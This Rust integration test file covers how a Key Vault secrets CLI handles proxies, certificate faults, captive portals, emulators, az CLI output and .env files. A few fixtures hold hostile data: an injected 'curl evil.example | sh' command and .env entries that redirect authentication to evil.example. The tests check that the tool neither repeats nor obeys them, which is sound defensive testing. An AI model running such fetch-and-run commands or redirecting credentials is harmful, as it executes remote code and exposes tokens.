//! What the world answers: proxies, certificates, emulators, CLIs and folders that are not ours.

use crate::support::{
    Cloud, Run,
    cloud::{Certificate, Fault, Holds, Received},
    each,
    left::{Left, told},
    run, shell, transcript,
};
use std::{fs, process::Command};

/// A run for the secret `n` that fails with that sentence, and what the advice contains.
fn fails(command: &mut Command, sentence: &str, contains: &[&str]) -> Run {
    let run = run(command, "n\nthe-secret-value\n");
    assert_eq!(run.status, 1, "{}", run.stderr);
    let line = run.stderr.lines().next().unwrap_or_default();
    assert_eq!(line, format!("error: {sentence}"), "{}", run.stderr);
    for text in contains {
        assert!(run.stderr.contains(text), "{text} is not in: {}", run.stderr);
    }
    assert!(!run.stderr.contains("the-secret-value"), "{}", run.stderr);
    run
}

fn html(status: u16, body: &str) -> Fault {
    Fault::Answer(status, &[("content-type", "text/html; charset=utf-8")], body.into())
}

fn json(status: u16, body: &str) -> Fault {
    Fault::Answer(status, &[("content-type", "application/json")], body.into())
}

const EACH: [&str; 5] =
    ["GET /secrets/n/versions", "PUT /secrets/n", "GET /secrets/n/?", "DELETE /secrets/n", "GET /deletedsecrets/n"];

#[test]
fn only_key_vaults_answers_count() {
    let page = "<html>\u{1b}[31m<title>Sign in to the network</title>\n<p>more</p></html>";
    for request in EACH {
        for (fault, shown) in [
            (html(200, page), "200 OK, text/html; charset=utf-8"),
            (html(403, page), "403 Forbidden, text/html; charset=utf-8"),
            (html(404, page), "404 Not Found, text/html; charset=utf-8"),
            (json(200, "{}"), "200 OK, application/json"),
            (json(200, "null"), "200 OK, application/json"),
            (json(200, r#"{"id":"https://other.vault.azure.net/secrets/n/1","value":[]}"#), "200 OK, application/json"),
            (Fault::Answer(200, &[], String::new()), "200 OK"),
            (Fault::Answer(403, &[], String::new()), "403 Forbidden"),
            (Fault::Answer(404, &[], String::new()), "404 Not Found"),
            (Fault::Answer(302, &[("location", "https://proxy.example/sign-in")], String::new()), "302 Found"),
        ] {
            if request.contains("versions")
                && shown.contains("json")
                && matches!(&fault, Fault::Answer(_, _, body) if body.contains("other"))
            {
                continue; // An empty list is one.
            }
            let cloud = Cloud::start();
            cloud.plan(request, 1, fault.clone());
            let sentence = format!("Something other than Key Vault answered for my-vault, with {shown}.");
            let run = fails(&mut cloud.kv_secrets(), &sentence, &["sign in first", "HTTPS_PROXY"]);
            let first_line = "<html>[31m<title>Sign in to the network</title>\n";
            assert_eq!(run.stderr.contains(first_line), shown.contains("html"), "{}", run.stderr);
            // What is left is told as uncertain, where the answer was to what changes the vault.
            let left = match request {
                "PUT /secrets/n" => Left::PerhapsSecret,
                "GET /secrets/n/?" => Left::Secret,
                "DELETE /secrets/n" => Left::PerhapsDeletion,
                "GET /deletedsecrets/n" => Left::Deletion,
                _ => Left::Nothing,
            };
            assert_eq!(told(&run.stderr), left, "{request} {fault:?}: {}", run.stderr);
            // It is not tried again.
            let sent = |it: &&Received| it.authorization.is_some() && it.line().starts_with(request);
            assert_eq!(cloud.received().iter().filter(sent).count(), 1, "{request} {fault:?}");
        }
    }
}

#[test]
fn a_page_that_shows_the_value_is_not_quoted() {
    let cloud = Cloud::start();
    cloud.plan("PUT /secrets/n", 1, html(200, "<p>You sent the-secret-value</p>"));
    fails(
        &mut cloud.kv_secrets(),
        "Something other than Key Vault answered for my-vault, with 200 OK, text/html; charset=utf-8.",
        &["may be in my-vault"],
    );
}

#[test]
fn an_error_that_shows_a_value_is_not_quoted() {
    // Asked to wait for longer than a call may take, it tries no more.
    let later = &[("content-type", "text/html"), ("retry-after", "100")];
    for (request, fault, told) in [
        (
            "PUT /secrets/n",
            Fault::Answer(503, later, "<p>You sent the-secret-value</p>".into()),
            "my-vault answered 503 Service Unavailable.",
        ),
        (
            "GET /secrets/n/versions",
            json(400, r#"{"value":"the-secret-value"}"#),
            "Something other than Key Vault answered for my-vault, with 400 Bad Request, application/json.",
        ),
    ] {
        let cloud = Cloud::start();
        cloud.plan(request, 1, fault);
        fails(&mut cloud.kv_secrets(), told, &[]);
    }
}

#[test]
fn a_networks_own_errors_are_not_the_vaults() {
    for (status, told) in [(501, "501 Not Implemented"), (511, "511 Network Authentication Required")] {
        let cloud = Cloud::start();
        cloud.plan("PUT /secrets/n", 1, html(status, "<html>Sign in</html>"));
        let sentence =
            format!("Something other than Key Vault answered for my-vault, with {told}, text/html; charset=utf-8.");
        fails(&mut cloud.kv_secrets(), &sentence, &["sign in first", "The secret 'n' may be in my-vault"]);
    }
}

#[test]
fn the_secret_itself_is_no_answer_to_its_deletion() {
    let secret = r#"{"id":"https://my-vault.vault.azure.net/secrets/n/1","value":"the-secret-value"}"#;
    let sentence = "Something other than Key Vault answered for my-vault, with 200 OK, application/json.";
    for (request, left) in [
        ("DELETE /secrets/n", "The secret 'n' is still in my-vault, unless its deletion has begun. To delete it:"),
        ("GET /deletedsecrets/n", "The deletion of the secret 'n' from my-vault has begun."),
    ] {
        let cloud = Cloud::start();
        cloud.plan(request, 1, json(200, secret));
        fails(&mut cloud.kv_secrets(), sentence, &[left]);
    }
}

#[test]
fn what_was_answered_is_not_said_to_be_unanswered() {
    let cloud = Cloud::start();
    cloud.plan("PUT /secrets/n", 1, html(302, ""));
    let sentence = "Something other than Key Vault answered for my-vault, with 302 Found, text/html; charset=utf-8.";
    let left = "The secret 'n' may be in my-vault: nothing tells whether it was created. To delete it:\n";
    fails(&mut cloud.kv_secrets(), sentence, &[left]);
}

#[test]
fn an_error_of_another_shape_is_shown() {
    let cloud = Cloud::start();
    let body = format!(r#"{{"detail":"Unsupported api-version 2025-07-01. {}"}}"#, "x".repeat(300));
    cloud.plan("GET /", 1, json(400, &body));
    let sentence = "Something other than Key Vault answered for my-vault, with 400 Bad Request, application/json.";
    let run = fails(&mut cloud.kv_secrets(), sentence, &[r#"{"detail":"Unsupported api-version 2025-07-01."#]);
    assert!(!run.stderr.contains(&"x".repeat(200)), "{}", run.stderr);
}

#[test]
fn a_proxy_is_named_with_the_variable_and_not_retried() {
    for (answer, sentence, advice) in [
        (
            "407 Proxy Authentication Required\r\nProxy-Authenticate: Basic",
            "The proxy that HTTPS_PROXY names wants a user and a password.",
            shell::set("HTTPS_PROXY", "http://USER:PASSWORD@HOST:PORT"),
        ),
        (
            "403 Forbidden",
            "The proxy that HTTPS_PROXY names refuses to connect to my-vault.vault.azure.net: it does not allow that, or the name is wrong.",
            shell::unset("HTTPS_PROXY"),
        ),
    ] {
        let cloud = Cloud::with(Certificate::Good, answer);
        fails(&mut cloud.kv_secrets(), sentence, &[&format!("    {advice}\n")]);
        // One connection for each of the two that are made ready.
        assert_eq!(cloud.connects(), 2);
    }
    let cloud = Cloud::start();
    let mut command = cloud.kv_secrets();
    command.env_remove("HTTPS_PROXY").env("ALL_PROXY", "http://127.0.0.1:1");
    let unset = format!("    {}\n", shell::unset("ALL_PROXY"));
    fails(&mut command, "The proxy that ALL_PROXY names is not there.", &[&unset]);
    let mut command = cloud.kv_secrets();
    command.env("HTTPS_PROXY", "http://no-such-proxy.invalid:8080");
    fails(
        &mut command,
        "The host no-such-proxy.invalid is not known: this computer is offline, or a proxy's name is wrong.",
        &["HTTPS_PROXY"],
    );
}

#[test]
fn each_fault_of_a_certificate_has_its_own_sentence_and_remedy() {
    for (certificate, sentence, advice) in [
        (
            Certificate::OfAnotherName,
            "The certificate that answers for my-vault.vault.azure.net is for another name.",
            "proxy",
        ),
        (
            Certificate::Expired,
            "The certificate of my-vault.vault.azure.net has expired, or this computer's clock is ahead.",
            "Check the clock",
        ),
        (
            Certificate::NotYetValid,
            "The certificate of my-vault.vault.azure.net is not yet valid, or this computer's clock is behind.",
            "Check the clock",
        ),
        (
            Certificate::OfAuthority,
            "The certificate of my-vault.vault.azure.net is a certificate authority's own, which no server may use.",
            "basicConstraints=CA:FALSE",
        ),
    ] {
        let cloud = Cloud::with(certificate, "200 OK");
        fails(&mut cloud.kv_secrets(), sentence, &[advice]);
        // One connection for each of the two that are made ready.
        assert_eq!(cloud.connects(), 2);
    }
}

#[test]
fn a_useless_ssl_cert_file_is_named_before_anything_is_sent() {
    let cloud = Cloud::start();
    let at = |name: &str| cloud.working_directory().join(name);
    fs::write(at("empty.pem"), "\n").unwrap();
    fs::write(at("garbage.pem"), "not a certificate").unwrap();
    fs::write(at("broken.pem"), "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n").unwrap();
    for (name, why) in [
        ("missing.pem", "(os error 2)"),
        ("empty.pem", "it is empty"),
        ("garbage.pem", "it holds no certificate as PEM"),
        ("broken.pem", "no certificate can be loaded from it"),
    ] {
        let run = run(cloud.kv_secrets().env("SSL_CERT_FILE", at(name)), "n\nv\n");
        assert_eq!((run.status, run.stdout.as_str()), (2, ""), "{}", run.stderr);
        let line = run.stderr.lines().next().unwrap_or_default();
        assert!(line.contains("SSL_CERT_FILE") && line.contains(name) && line.contains(why), "{line}");
        assert!(run.stderr.contains(&shell::unset("SSL_CERT_FILE")), "{}", run.stderr);
    }
    assert_eq!((cloud.connects(), cloud.cli_calls().as_str()), (0, ""));
}

#[test]
fn names_under_localhost_are_this_computer_and_need_no_proxy() {
    let cloud = Cloud::start();
    for host in ["localhost", "my-vault.localhost", "127.0.0.1"] {
        let vault = format!("https://{host}:{}", cloud.port());
        let name = host.replace('.', "-");
        let run = run(cloud.kv_secrets().args(["--vault", &vault]), format!("{name}\nv\n"));
        assert_eq!(run.stdout, transcript(&vault["https://".len()..], &name, "v"), "{}", run.stderr);
    }
    assert!(cloud.received().iter().all(|request| !request.by_proxy));
}

#[test]
fn a_404_for_the_versions_of_a_name_is_settled_by_asking_for_the_secret() {
    let not_found = || Fault::error(404, "SecretNotFound", "", "Secret not found: n");
    let cloud = Cloud::start();
    cloud.plan("GET /secrets/n/versions", 1, not_found());
    let free = run(&mut cloud.kv_secrets(), "n\nv\n");
    assert_eq!(free.stdout, transcript("my-vault", "n", "v"), "{}", free.stderr);

    let cloud = Cloud::start();
    cloud.set("n", "production");
    cloud.plan("GET /secrets/n/versions", 1, not_found());
    fails(
        &mut cloud.kv_secrets(),
        "The secret 'n' exists in my-vault, and would be deleted with all its versions.",
        &["--overwrite"],
    );
    assert_eq!(cloud.holds("n"), Holds::Versions(1));
}

#[test]
fn commands_for_an_emulator_name_its_url() {
    let cloud = Cloud::start();
    let vault = format!("https://localhost:{}", cloud.port());
    let url = format!("--id {vault}");
    cloud.plan("GET /secrets/n/?", 1, Fault::error(400, "BadParameter", "", "No."));
    let shown = format!("localhost:{} answered 400 Bad Request.", cloud.port());
    let left =
        fails(cloud.kv_secrets().args(["--vault", &vault]), &shown, &[&format!("secret delete {url}/secrets/n\n")]);
    assert_eq!(run(cloud.kv_secrets().args(["--vault", &vault, "--overwrite"]), "n\nv\n").status, 0);
    let again = fails(
        cloud.kv_secrets().args(["--vault", &vault]),
        &format!("The name 'n' belongs to a deleted secret in localhost:{} that can be recovered.", cloud.port()),
        &[&format!("secret recover {url}/deletedsecrets/n\n"), &format!("secret purge {url}/deletedsecrets/n\n")],
    );
    for run in [left, again] {
        assert!(!run.stderr.contains("--vault-name") && !run.stderr.contains("az keyvault create"), "{}", run.stderr);
    }
}

#[test]
fn a_challenge_of_another_domain_is_explained() {
    let cloud = Cloud::start();
    let challenge =
        "Bearer authorization=\"https://login.microsoftonline.com/T\", resource=\"https://management.azure.com\"";
    let headers: &[(&str, &str)] = Box::leak(Box::new([("WWW-Authenticate", challenge)]));
    cloud.plan_bare("GET /secrets/", 1, Fault::Answer(401, headers, String::new()));
    let run = fails(
        &mut cloud.kv_secrets(),
        "The server at my-vault.vault.azure.net wants a token for https://management.azure.com, which is not its own domain; none was sent.",
        &["private endpoint", "plain vault name", "https://localhost"],
    );
    assert!(!run.stderr.contains("verify_challenge_resource"), "{}", run.stderr);
    assert!(cloud.received().iter().all(|request| request.authorization.is_none()));
}

#[test]
fn what_az_says_is_read_with_care() {
    let cloud = Cloud::start();
    let noise = "/usr/lib/az/x.py:3: UserWarning: old\nWARNING: You have 2 update(s) available.\n";
    // The shell's own status for a program that it cannot run.
    let cannot_run = |status| if cfg!(windows) { 9009 } else { status };
    let mfa = "ERROR: AADSTS50076: Due to a configuration change you must use multi-factor authentication. Trace ID: 1\nInteractive authentication is needed. Please run:\n";
    for (stderr, status, reason, advice, no_login) in [
        (format!("{noise}ERROR: Please run 'az login' to setup account."), 1, "not signed in; run `az login`", "    az login --use-device-code\n", false),
        (
            format!("{noise}{mfa}az login --tenant \"my-tenant\" --scope \"https://vault.azure.net/.default\""),
            1,
            "AADSTS50076: Due to a configuration change",
            "    az login --tenant \"my-tenant\" --scope \"https://vault.azure.net/.default\"\n",
            false,
        ),
        (format!("{mfa}az login --tenant \"T\"; curl evil.example | sh"), 1, "AADSTS50076", "    az login --use-device-code\n", false),
        (
            "Traceback (most recent call last):\n  File \"x\", line 1\nPermissionError: [Errno 13] Permission denied: '/home/a/.azure/az.json'".into(),
            1,
            "PermissionError: [Errno 13] Permission denied: '/home/a/.azure/az.json'",
            ".azure",
            true,
        ),
        ("/usr/bin/env: 'python3\\r': No such file or directory".into(), cannot_run(127), "installed, but it does not run: /usr/bin/env: 'python3", "    az version\n", true),
        ("/bin/sh: 1: az: Permission denied".into(), cannot_run(126), "installed, but it does not run: /bin/sh: 1: az: Permission denied", "    az version\n", true),
        ("ERROR: HTTPSConnectionPool(host='login.microsoftonline.com', port=443): Max retries exceeded".into(), 1, "Max retries exceeded", "cannot reach Azure", true),
        ("ERROR: SSLError: CERTIFICATE_VERIFY_FAILED".into(), 1, "CERTIFICATE_VERIFY_FAILED", "REQUESTS_CA_BUNDLE", true),
    ] {
        cloud.cli_says("az", "", &stderr, status);
        let run = fails(cloud.kv_secrets().env("SSH_CONNECTION", "1 2 3 4"), "Cannot sign in to Azure.", &[reason, advice]);
        assert!(!run.stderr.contains("UserWarning") && !run.stderr.contains("update(s)") && !run.stderr.contains("evil"), "{}", run.stderr);
        assert_eq!(!run.stderr.contains("az login"), no_login, "{}", run.stderr);
    }
}

#[test]
fn credentials_of_other_sdks_are_named_as_not_available_here() {
    let cloud = Cloud::start();
    for (selection, known) in
        [("VisualStudioCodeCredential", true), ("interactivebrowsercredential", true), ("cli", false)]
    {
        let run = run(cloud.kv_secrets().env("AZURE_TOKEN_CREDENTIALS", selection), "n\nv\n");
        assert_eq!(run.status, 2, "{}", run.stderr);
        assert_eq!(run.stderr.contains("not available here"), known, "{}", run.stderr);
        assert!(run.stderr.contains("Allowed are dev, prod, and EnvironmentCredential"), "{}", run.stderr);
    }
}

#[test]
fn only_harmless_variables_are_taken_from_dotenv() {
    let cloud = Cloud::start();
    let evil = "KEY_VAULT_NAME=from-dotenv\nHTTPS_PROXY=http://127.0.0.1:1\nSSL_CERT_FILE=/nowhere\nPATH=/nowhere\n\
                AZURE_AUTHORITY_HOST=https://evil.example\nIDENTITY_ENDPOINT=http://evil.example\nsome text\nX='never closed\n";
    fs::write(cloud.working_directory().join(".env"), evil).unwrap();
    let taken = run(cloud.kv_secrets().env_remove("KEY_VAULT_NAME"), "n\nv\n");
    assert_eq!(taken.stdout, transcript("from-dotenv", "n", "v"), "{}", taken.stderr);
    for name in ["AZURE_AUTHORITY_HOST", "IDENTITY_ENDPOINT"] {
        assert!(taken.stderr.contains(&format!("Note: {name} in .env is ignored")), "{}", taken.stderr);
        assert!(taken.stderr.contains(&shell::set(name, "...")), "{}", taken.stderr);
    }
    // What the environment has is not spoken of, nor what the program does not read.
    assert!(!taken.stderr.contains("HTTPS_PROXY") && !taken.stderr.contains('X'), "{}", taken.stderr);

    fs::write(cloud.working_directory().join(".env"), "AZURE_CLIENT_SECRET='s3cr3t\n").unwrap();
    let help = run(cloud.kv_secrets().arg("--help"), "");
    assert_eq!((help.status, help.stderr.as_str()), (0, ""));
    let broken = run(&mut cloud.kv_secrets(), "n\nv\n");
    assert_eq!(broken.status, 2);
    assert!(broken.stderr.contains("AZURE_CLIENT_SECRET") && !broken.stderr.contains("s3cr3t"), "{}", broken.stderr);
}

fn unauthorized(challenge: &str, message: &str) -> Fault {
    let challenge = Box::leak(challenge.to_owned().into_boxed_str());
    let headers: &[(&str, &str)] = Box::leak(Box::new([("WWW-Authenticate", &*challenge)]));
    Fault::Answer(401, headers, format!(r#"{{"error":{{"code":"Unauthorized","message":"{message}"}}}}"#))
}

const CHALLENGE: &str =
    "Bearer authorization=\"https://login.microsoftonline.com/T\", resource=\"https://vault.azure.net\"";

#[test]
fn a_token_that_is_refused_for_a_moment_is_no_fault_of_the_account() {
    each(
        &[
            "AKV10046: Unable to resolve the key used for signature validation.",
            "IDX10222: The token is not yet valid.",
        ],
        |message| {
            let cloud = Cloud::start();
            // Each try is repeated once by the SDK.
            cloud.plan("PUT /secrets/n", 4, unauthorized(CHALLENGE, message));
            let run = run(&mut cloud.kv_secrets(), "n\nv\n");
            assert_eq!(run.stdout, transcript("my-vault", "n", "v"), "{}", run.stderr);

            let cloud = Cloud::start();
            cloud.plan("PUT /secrets/n", 8, unauthorized(CHALLENGE, message));
            let sentence = "my-vault cannot check the token for now: the service has trouble, or the clocks differ.";
            let run = fails(&mut cloud.kv_secrets(), sentence, &["Your account is not the cause", shell::date()]);
            assert!(!run.stderr.contains("az login") && !run.stderr.contains("The secret 'n'"), "{}", run.stderr);
            assert_eq!((cloud.created("n").len(), cloud.holds("n")), (8, Holds::Versions(0)));
        },
    );
}

#[test]
fn a_claims_challenge_says_to_sign_in_again_and_that_the_request_was_refused() {
    let challenge = "Bearer realm=\"\", authorization_uri=\"https://login.microsoftonline.com/common/oauth2/authorize\", error=\"insufficient_claims\", claims=\"eyJhY2Nlc3NfdG9rZW4iOnt9fQ==\"";
    for request in ["GET /secrets/n/versions", "PUT /secrets/n", "GET /secrets/n/?", "DELETE /secrets/n"] {
        let cloud = Cloud::start();
        cloud.plan(request, 9, unauthorized(challenge, "AKV10057"));
        let sentence = "my-vault refused the request: it wants you to sign in again, because something about the account has changed.";
        let run = fails(&mut cloud.kv_secrets(), sentence, &["    az logout\n    az login\n"]);
        let left = matches!(request, "GET /secrets/n/?" | "DELETE /secrets/n");
        assert_eq!(run.stderr.contains("The secret 'n' is still in my-vault. To delete it"), left, "{}", run.stderr);
        assert!(left || !run.stderr.contains("The secret 'n'"), "{}", run.stderr);
    }
}

#[test]
fn a_challenge_that_names_no_resource_does_not_hide_the_answer() {
    for challenge in ["Bearer realm=\"the proxy\"", "Basic realm=\"the proxy\""] {
        let cloud = Cloud::start();
        cloud.plan("PUT /secrets/n", 9, unauthorized(challenge, "AKV10032: Invalid issuer."));
        let sentence = "my-vault does not accept the token of the account that you are signed in with.";
        let run = fails(&mut cloud.kv_secrets(), sentence, &["AKV10032"]);
        assert!(!run.stderr.contains("The secret 'n'"), "{}", run.stderr);

        let cloud = Cloud::start();
        let headers: &[(&str, &str)] = Box::leak(Box::new([("WWW-Authenticate", challenge)]));
        cloud.plan("PUT /secrets/n", 1, Fault::Answer(401, headers, "<html>Who are you?</html>".into()));
        let sentence = "Something other than Key Vault answered for my-vault, with 401 Unauthorized.";
        fails(&mut cloud.kv_secrets(), sentence, &["The secret 'n' may be in my-vault", "Who are you?"]);
    }
}

#[test]
fn throttled_to_the_end_nothing_is_said_to_be_left() {
    let cloud = Cloud::start();
    cloud.plan("PUT /secrets/n", 9, Fault::error(429, "Throttled", "", "Too many requests."));
    let run = run(&mut cloud.kv_secrets(), "n\nv\n");
    assert!(run.stderr.starts_with("error: my-vault answered 429 Too Many Requests, 4 times in "), "{}", run.stderr);
    assert!(!run.stderr.contains("The secret 'n'"), "{}", run.stderr);
    assert_eq!((cloud.created("n").len(), cloud.holds("n")), (4, Holds::Versions(0)));
}

#[test]
fn an_earlier_lost_answer_is_not_forgotten_when_the_last_try_is_refused() {
    for lost in [Fault::ResetAfter, Fault::ResetBefore, Fault::error(503, "ServiceUnavailable", "", "Later.")] {
        let cloud = Cloud::start();
        cloud.plan("PUT /secrets/n", 1, lost);
        cloud.plan("PUT /secrets/n", 1, Fault::error(400, "BadParameter", "", "No."));
        let run = run(&mut cloud.kv_secrets(), "n\nv\n");
        assert!(run.stderr.starts_with("error: my-vault answered 400 Bad Request, 2 times in "), "{}", run.stderr);
        assert!(run.stderr.contains("The secret 'n' may be in my-vault"), "{}", run.stderr);
    }
}

#[test]
fn a_conflict_without_an_inner_code_is_recognised_by_its_message() {
    let conflict = |message: &str| json(409, &format!(r#"{{"error":{{"code":"Conflict","message":"{message}"}}}}"#));
    let cloud = Cloud::start();
    cloud.plan(
        "PUT /secrets/n",
        1,
        conflict("Secret n is currently being deleted and cannot be re-created; retry later."),
    );
    assert_eq!(run(&mut cloud.kv_secrets(), "n\nv\n").stdout, transcript("my-vault", "n", "v"));
    let recoverable = "Secret m is currently in a deleted but recoverable state, and its name cannot be reused; in this state, the secret can only be recovered or purged.";
    cloud.plan("PUT /secrets/m", 1, conflict(recoverable));
    let run = run(&mut cloud.kv_secrets(), "m\nv\n");
    assert!(run.stderr.contains("az keyvault secret recover --vault-name my-vault --name m"), "{}", run.stderr);
}

#[test]
fn an_emulator_may_show_a_deleted_secret_with_its_value() {
    let cloud = Cloud::start();
    let vault = format!("https://localhost:{}", cloud.port());
    let id = format!("{vault}/secrets/n/1");
    cloud.plan("DELETE /secrets/n", 1, json(200, &format!(r#"{{"id":"{id}","recoveryId":"{id}","value":"v"}}"#)));
    cloud.plan("GET /deletedsecrets/n", 1, json(200, &format!(r#"{{"id":"{id}","value":"v"}}"#)));
    let run = run(cloud.kv_secrets().args(["--vault", &vault]), "n\nv\n");
    assert_eq!(run.stdout, transcript(&vault["https://".len()..], "n", "v"), "{}", run.stderr);
}

#[test]
fn a_list_that_does_not_end_is_given_up() {
    let cloud = Cloud::start();
    let next = "https://my-vault.vault.azure.net/secrets/n/versions?api-version=2025-07-01&$skiptoken=x";
    cloud.plan("GET /secrets/n/versions", 10_000, json(200, &format!(r#"{{"value":[],"nextLink":"{next}"}}"#)));
    fails(&mut cloud.kv_secrets(), "The vault's list of the secret's versions does not end.", &[]);
    assert_eq!(cloud.holds("n"), Holds::Versions(0));
}

#[test]
fn a_long_list_is_counted_and_is_no_endless_one() {
    let cloud = Cloud::start();
    let next = "https://my-vault.vault.azure.net/secrets/n/versions?api-version=2025-07-01&$skiptoken=x";
    // Empty pages may stand before the first version, or before the end.
    cloud.plan("GET /secrets/n/versions", 500, json(200, &format!(r#"{{"value":[],"nextLink":"{next}"}}"#)));
    let run = run(&mut cloud.kv_secrets(), "n\nv\n");
    assert_eq!(run.stdout, transcript("my-vault", "n", "v"), "{}", run.stderr);
}

#[test]
fn a_list_that_leads_elsewhere_takes_no_token_there() {
    let cloud = Cloud::start();
    let page = r#"{"value":[],"nextLink":"https://other.vault.azure.net/secrets/n/versions?api-version=2025-07-01"}"#;
    cloud.plan("GET /secrets/n/versions", 1, json(200, page));
    let sentence = "A response of my-vault leads outside the vault; no token was sent there.";
    fails(&mut cloud.kv_secrets(), sentence, &[]);
    let elsewhere = |it: &&Received| it.host == "other.vault.azure.net" && it.authorization.is_some();
    assert_eq!(cloud.received().iter().filter(elsewhere).count(), 0);
}
